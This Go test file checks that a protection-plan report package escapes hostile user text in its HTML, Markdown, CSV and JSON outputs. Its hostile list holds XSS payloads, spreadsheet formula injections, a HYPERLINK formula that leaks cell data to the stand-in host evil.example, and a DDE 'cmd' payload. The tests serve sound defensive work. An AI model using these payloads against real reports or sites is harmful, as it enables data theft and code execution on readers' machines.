package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"io"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"golang.org/x/net/html"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"

	"github.com/telark/protectionplans/edge"
	"github.com/telark/protectionplans/plan"
	"github.com/telark/protectionplans/violations"
	"github.com/telark/protectionplans/window"
)

// hostile are texts that would do harm if a report format ever read them
// as anything but text: markup, attributes, URLs, spreadsheet formulas,
// table separators, line breaks, template actions, bidi overrides.
var hostile = []string{
	"<script>alert(1)</script>",
	`"><img src=x onerror=alert(1)>`,
	"javascript:alert(1)",
	`=HYPERLINK("http://evil.example/?d="&A1,"click me")`,
	"+1",
	"-1",
	"@SUM(A1:A9)",
	"\t=1+1",
	"\r=1+1",
	" \u200b=cmd|' /C calc'!A0",
	"a | b || c",
	"line one\nline two\r\nline three",
	"{{ .Secret }}{{template \"x\"}}",
	"\u202Eexe.txt\u202C and after",
	"</style><style>body{display:none}</style>",
	"' onmouseover='alert(1)",
	"[link](javascript:alert(1)) ![img](http://evil.example/x.png)",
	"<!-- comment --> ]]> &amp; &lt;b&gt;",
	"*bold* _em_ `code` ~strike~ # heading \\",
}

// allHostile is every hostile text in one string.
var allHostile = strings.Join(hostile, " ¦ ")

// hostileInput is a report with hostile text in every field a person can
// write: plan ID, name, description, environment, tags, applications,
// namespaces, exclusions, templates and parameters, policies, actors and
// messages of the timeline, health reasons and messages, and every text
// field of the violations (one violation per hostile text as well, so
// that each one begins a CSV cell).
func hostileInput(t testing.TB) Input {
	h := allHostile
	start := at("Wed Jul 22 2026 20:00:00")
	p := &plan.ProtectionPlan{
		ObjectMeta: metav1.ObjectMeta{Name: h},
		Spec: plan.Spec{
			Name: h, Description: h, Environment: h, Tags: hostile,
			Scope:      plan.Scope{Applications: []string{h, "=unresolved"}},
			Exclusions: plan.Exclusions{Kinds: []string{h}, Resources: []plan.ResourceRef{{Kind: h, Name: h, Namespace: h}}},
			Templates:  []plan.TemplateRef{{Name: h, Parameters: map[string]string{h: h, "+p": "-v"}}},
			Window:     window.Spec{Type: window.Permanent, TimeZone: h},
			Mode:       plan.ModeAudit, ApprovalMode: plan.ApprovalAutomatic,
		},
		Status: plan.Status{Phase: plan.PhaseActive, StartedAt: mt(start)},
	}
	for i, s := range hostile {
		plan.AppendEvent(p, plan.TimelineEvent{Time: metav1.NewTime(start.Add(-10 * time.Minute).Add(offset(i))),
			Type: plan.EventType(s), Actor: s, Phase: plan.PhaseActive, Message: s})
	}
	p.Status.Timeline[0].Type = plan.EventCreated
	var vs []violations.Violation
	for i, s := range append([]string{h}, hostile...) {
		vs = append(vs, violations.Violation{
			Key: s, Plan: s, Template: s, Policy: s, PolicyNamespace: s, Rule: s,
			Resource: violations.Resource{APIVersion: s, Kind: s, Namespace: s, Name: s, Subresource: s},
			Result:   violations.ResultFail, Blocked: i%2 == 0, Message: s,
			Timestamp: start.Add(offset(i)), Count: int32(i), Source: violations.SourceEvent,
		})
	}
	// Edge actions: hostile text in every name, value, reason and error
	// of a journal, one participant per hostile text and per outcome.
	p.Spec.EdgeActions = []edge.Action{{Name: edge.Name(h)}}
	j := edge.Journal{Plan: edge.ObjectRef{Name: h}, Start: start, CapturedAt: start, Phase: edge.Restoring, AbandonedBy: h}
	states := []edge.State{edge.Pending, edge.Applied, edge.Restored, edge.Failed, edge.Skipped}
	skips := []edge.Skip{edge.SkipStart, edge.SkipMissing, edge.SkipReplaced, edge.SkipChanged, edge.SkipAbandoned, edge.SkipNotLanded}
	for i, s := range append([]string{h}, hostile...) {
		value, _ := json.Marshal(s)
		j.Entries = append(j.Entries, edge.Entry{Action: edge.Name(s), Target: edge.ObjectRef{APIVersion: s, Kind: s, Namespace: s, Name: s, UID: types.UID(s)},
			Subresource: s, Pointer: s, Captured: edge.Value{Present: true, JSON: value}, Desired: edge.Value{Present: true, JSON: value},
			State: states[i%len(states)], Skip: skips[i%len(skips)], Reason: s, LastError: s, Attempts: i})
	}
	return Input{
		Plan:         p,
		EdgeJournals: []edge.Journal{j},
		Applications: []plan.Application{{Name: h, Namespaces: hostile}},
		Policies:     []PolicyInfo{{Namespace: h, Name: h, Template: h, Target: h}},
		Health: []HealthSample{
			{At: start.Add(offset(1)), Healthy: false, Reason: h, Message: h, Missing: 1},
			{At: start.Add(offset(5)), Healthy: true, Reason: h, Message: h},
		},
		Violations: vs,
		Trigger:    TriggerManual,
		Now:        start.Add(offset(40)),
		ID:         h,
	}
}

// offset is i minutes and 39 seconds.
func offset(i int) time.Duration { return time.Duration(i)*time.Minute + 39*time.Second }

// markers are substrings that only hostile text contains; no attribute
// value, element name or comment of a report may contain one.
var markers = []string{"alert", "onerror", "onmouseover", "javascript", "HYPERLINK", "evil", "Secret", "display:none", "comment"}

func TestHostile_HTMLKeepsUserTextAsText(t *testing.T) {
	doc := mustRender(t, mustBuild(t, hostileInput(t)), HTML)
	checkHTMLKeepsText(t, doc, hostile, markers)
}

// The elements and attributes html.tmpl writes.
var (
	allowedTags = []string{"html", "head", "meta", "title", "style", "body", "main", "header", "p", "span", "h1", "h2", "h3",
		"bdi", "dl", "dt", "dd", "div", "section", "figure", "figcaption", "svg", "defs", "pattern", "rect", "line",
		"text", "polygon", "circle", "table", "colgroup", "col", "thead", "tbody", "tr", "th", "td", "br", "footer", "ol", "li", "b"}
	allowedAttrs = []string{"lang", "charset", "name", "content", "class", "xmlns", "viewbox", "role", "aria-labelledby",
		"aria-hidden", "aria-label", "id", "width", "height", "patternunits", "patterntransform", "fill", "fill-opacity", "stroke",
		"stroke-width", "x", "y", "x1", "y1", "x2", "y2", "cx", "cy", "r", "points", "dy", "text-anchor"}
)

// checkHTMLKeepsText reads doc with the HTML tokenizer, as a browser does,
// and fails when it has a comment, an element or attribute that html.tmpl
// does not write, an attribute value holding one of markers (ignoring
// case), a style sheet other than the template's one, or a bidi override
// outside an isolating element, or when its text does not show each of
// texts as it is (but for line ends, which HTML reads as LF, and NUL).
func checkHTMLKeepsText(t testing.TB, doc []byte, texts, markers []string) {
	t.Helper()
	z := html.NewTokenizer(bytes.NewReader(doc))
	var text strings.Builder
	var stack []string
	styles := 0
	for {
		tt := z.Next()
		if tt == html.ErrorToken {
			if z.Err() != io.EOF {
				t.Fatal(z.Err())
			}
			break
		}
		tok := z.Token()
		switch tt {
		case html.CommentToken:
			t.Errorf("a comment came out of the report: %q", tok.Data)
		case html.StartTagToken, html.SelfClosingTagToken:
			if !slices.Contains(allowedTags, tok.Data) {
				t.Errorf("element <%s> is not one the template writes", tok.Data)
			}
			for _, a := range tok.Attr {
				if !slices.Contains(allowedAttrs, a.Key) {
					t.Errorf("attribute %s=%q on <%s> is not one the template writes", a.Key, a.Val, tok.Data)
				}
				for _, m := range markers {
					if strings.Contains(strings.ToLower(a.Val), strings.ToLower(m)) {
						t.Errorf("attribute %s=%q on <%s> carries user text", a.Key, a.Val, tok.Data)
					}
				}
			}
			if tok.Data == "style" {
				styles++
			}
			if tt == html.StartTagToken && !isVoid(tok.Data) {
				stack = append(stack, tok.Data)
			}
		case html.EndTagToken:
			if len(stack) > 0 {
				stack = stack[:len(stack)-1]
			}
		case html.TextToken:
			if len(stack) > 0 && stack[len(stack)-1] == "style" {
				if tok.Data != templateStyle {
					t.Errorf("the style sheet is not the template's")
				}
				continue
			}
			text.WriteString(tok.Data)
			if strings.ContainsRune(tok.Data, '\u202E') && !slices.ContainsFunc(stack, isolating) {
				t.Errorf("a bidi override is not isolated: %q inside %v", tok.Data, stack)
			}
		}
	}
	if styles != 1 {
		t.Errorf("%d <style> elements, want 1", styles)
	}
	for _, s := range texts {
		// HTML reads CRLF and a lone CR as LF; html/template writes NUL as
		// U+FFFD (the replacement HTML itself makes).
		s = strings.ReplaceAll(strings.ReplaceAll(s, "\r\n", "\n"), "\r", "\n")
		s = strings.ReplaceAll(s, "\x00", "\uFFFD")
		if !strings.Contains(text.String(), s) {
			t.Errorf("the text of the page does not show %q as it is", s)
		}
	}
}

// templateStyle is the style sheet of html.tmpl.
var templateStyle = func() string {
	_, css, _ := strings.Cut(htmlSource, "<style>")
	css, _, _ = strings.Cut(css, "</style>")
	return css
}()

func isVoid(tag string) bool {
	return slices.Contains([]string{"meta", "br", "col", "img", "input", "link", "hr", "area", "base", "source", "wbr"}, tag)
}

// isolating elements end the reach of a bidi override: <bdi> (and the
// table cells, the SVG tooltips and the page title, which are their own
// paragraphs).
func isolating(tag string) bool {
	return tag == "bdi" || tag == "td" || tag == "title" || tag == "th"
}

func TestHostile_MarkdownTablesStayIntact(t *testing.T) {
	md := string(mustRender(t, mustBuild(t, hostileInput(t)), Markdown))
	checkMarkdownTables(t, md)
	if strings.ContainsRune(md, '\u202E') {
		t.Error("a bidi override is written as it is, not shown as ‹U+202E›")
	}
	if !strings.Contains(md, "‹U+202E›exe.txt‹U+202C› and after") {
		t.Error("the bidi override is not shown")
	}
	if !strings.Contains(md, "line one<br>line two<br>line three") {
		t.Error("line breaks of user text are not <br>")
	}
}

// checkMarkdownTables fails when a table row of md has another number of
// cells than its table or does not end its row, when md has raw HTML (but
// <br>) or a link outside an escape, or when it holds a control character
// other than its own line ends, or a bidirectional control written as it
// is rather than shown (‹U+202E›).
func checkMarkdownTables(t testing.TB, md string) {
	t.Helper()
	if i := strings.IndexFunc(md, func(r rune) bool {
		return r < 0x20 && r != '\n' || r == 0x7f || r == 0x200E || r == 0x200F ||
			r >= 0x202A && r <= 0x202E || r >= 0x2066 && r <= 0x2069
	}); i >= 0 {
		r, _ := utf8.DecodeRuneInString(md[i:])
		t.Errorf("the Markdown holds %U as it is at byte %d", r, i)
	}
	lines := strings.Split(strings.TrimSuffix(md, "\n"), "\n")
	cells := 0
	for i, line := range lines {
		if !strings.HasPrefix(line, "|") {
			cells = 0
			continue
		}
		n := countCellSeparators(line)
		if cells == 0 {
			cells = n
		} else if n != cells {
			t.Errorf("line %d has %d cell separators, its table %d: %q", i+1, n, cells, line)
		}
		if !strings.HasSuffix(line, " |") {
			t.Errorf("line %d does not end its row: %q", i+1, line)
		}
	}
	for i, line := range lines {
		for j := 0; j < len(line); j++ {
			switch {
			case line[j] == '\\':
				j++
			case line[j] == '<' && !strings.HasPrefix(line[j:], "<br>"):
				t.Errorf("line %d has raw HTML at %d: %q", i+1, j, line)
			case strings.HasPrefix(line[j:], "]("):
				t.Errorf("line %d has a link: %q", i+1, line)
			}
		}
	}
}

// countCellSeparators counts the | of a row that are not escaped.
func countCellSeparators(line string) int {
	n := 0
	for j := 0; j < len(line); j++ {
		switch line[j] {
		case '\\':
			j++
		case '|':
			n++
		}
	}
	return n
}

func TestHostile_CSVNeutralisesFormulas(t *testing.T) {
	r := mustBuild(t, hostileInput(t))
	checkCSVSafe(t, r, mustRender(t, r, CSV))
}

// checkCSVSafe fails when doc, the CSV of r, does not parse, has another
// number of rows than a header and r's violations or of cells than the
// header, has a cell a spreadsheet would read as a formula, or loses text
// of a message.
func checkCSVSafe(t testing.TB, r Report, doc []byte) {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(doc)).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not parse: %v", err)
	}
	if len(rows) != len(r.Violations.Items)+1 {
		t.Fatalf("%d rows, want a header and %d violations", len(rows), len(r.Violations.Items))
	}
	for i, row := range rows {
		if len(row) != len(csvHeader) {
			t.Fatalf("row %d has %d cells, want %d", i, len(row), len(csvHeader))
		}
		for j, cell := range row {
			if dangerous(cell) {
				t.Errorf("row %d, column %s: a spreadsheet would read %q as a formula", i, csvHeader[j], cell)
			}
		}
	}
	for i, v := range r.Violations.Items {
		msg := csvLines(v.Message)
		if got, want := rows[i+1][15], SpreadsheetSafe(msg); got != want {
			t.Errorf("row %d message = %q, want %q", i+1, got, want)
		}
		if got := strings.TrimPrefix(rows[i+1][15], "'"); got != msg && "'"+got != msg {
			t.Errorf("row %d message lost text: %q, want %q", i+1, got, msg)
		}
	}
}

// dangerous reports whether a spreadsheet may take the cell for a formula:
// it begins, after whitespace and invisible characters, with = + - @, or
// begins with a TAB or CR.
func dangerous(cell string) bool {
	if strings.HasPrefix(cell, "'") || cell == "" {
		return false
	}
	if cell[0] == '\t' || cell[0] == '\r' {
		return true
	}
	trimmed := strings.TrimLeftFunc(cell, func(r rune) bool { return unicode.IsSpace(r) || unicode.Is(unicode.Cf, r) })
	return trimmed != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(trimmed)[0])
}

func TestHostile_JSONRoundTripsUserText(t *testing.T) {
	r := mustBuild(t, hostileInput(t))
	doc := mustRender(t, r, JSON)
	for _, m := range []string{"<script", "<img", "</style"} {
		if bytes.Contains(doc, []byte(m)) {
			t.Errorf("the JSON has %q unescaped; it must stay safe to embed in HTML", m)
		}
	}
	var back Report
	if err := json.Unmarshal(doc, &back); err != nil {
		t.Fatal(err)
	}
	if back.Plan.Name != allHostile || back.Violations.Items[0].Message != allHostile || back.Timeline.Events[3].Actor != hostile[3] {
		t.Errorf("user text did not survive the JSON: %q", back.Plan.Name)
	}
}

func TestSpreadsheetSafe(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"plain text is kept", "checkout-web", "checkout-web"},
		{"an empty cell is kept", "", ""},
		{"a formula gets an apostrophe", "=1+1", "'=1+1"},
		{"a plus sign", "+1", "'+1"},
		{"a minus sign", "-1", "'-1"},
		{"an at sign", "@SUM(A1)", "'@SUM(A1)"},
		{"a leading TAB", "\tx", "'\tx"},
		{"a leading CR", "\rx", "'\rx"},
		{"a formula after spaces", "   =1", "'   =1"},
		{"a formula after a zero-width space", "\u200b=1", "'\u200b=1"},
		{"a formula after a bidi override", "\u202e=1", "'\u202e=1"},
		{"a formula after a byte order mark", "\ufeff@x", "'\ufeff@x"},
		{"a full-width equals sign", "＝1+1", "'＝1+1"},
		{"an equals sign later is harmless", "a=1", "a=1"},
		{"a timestamp is kept", "2026-07-22T04:00:02Z", "2026-07-22T04:00:02Z"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := SpreadsheetSafe(tt.in); got != tt.want {
				t.Errorf("SpreadsheetSafe(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}
